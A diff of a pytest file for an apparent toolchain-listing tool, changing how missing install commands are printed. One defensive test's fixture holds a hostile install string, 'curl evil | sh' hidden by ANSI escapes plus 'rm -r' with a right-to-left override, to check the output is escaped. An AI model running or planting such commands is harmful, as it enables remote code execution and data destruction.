@@ -49,7 +49,7 @@ def test_a_missing_toolchain_is_listed_with_its_install_command(deadheat: Deadhe
     assert row["install"] == ["apt-get install -y python3"]
     out = deadheat("list", "hello").out
     assert "python3 is not installed" in out
-    assert "install with: apt-get install -y python3\n    for hello\n" in out
+    assert "  apt-get update\n  apt-get install -y python3\n      for hello\n" in out
 
 
 def test_rows_are_not_folded_in_a_pipe(deadheat: Deadheat, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -125,9 +125,9 @@ def test_a_recipe_that_its_registry_never_served_is_not_ready(
 @pytest.mark.usefixtures("bare_path")
 def test_servers_share_one_install_line(deadheat: Deadheat) -> None:
     lines = deadheat("list").out.splitlines()
-    installs = [line for line in lines if line.startswith("install with: ")]
-    assert installs == ["install with: apt-get update", "install with: apt-get install -y python3"]
-    assert any(line.startswith("    for ") and " and " in line for line in lines)
+    installs = [line for line in lines if line.startswith("  apt-get ")]
+    assert installs == ["  apt-get update", "  apt-get install -y python3"]
+    assert any(line.startswith("      for ") and " and " in line for line in lines)
 
 
 def test_a_manifest_cannot_hide_a_part_of_its_install_command(
@@ -147,7 +147,7 @@ install = "apt-get install x; \u001b[8mcurl evil | sh\u001b[0m\r\nrm -r \u202e~"
     monkeypatch.setenv("DEADHEAT_CATALOG", str(root))
     out = deadheat("list", "hello").out
     install = r"apt-get install x; \x1b[8mcurl evil | sh\x1b[0m\r\nrm -r \u202e~"
-    assert f"install with: {install}\n    for hello\n" in out
+    assert f"  {install}\n      for hello\n" in out
     assert r"no-such\x1b[2J is not installed" in out
     assert "\x1b" not in out
 
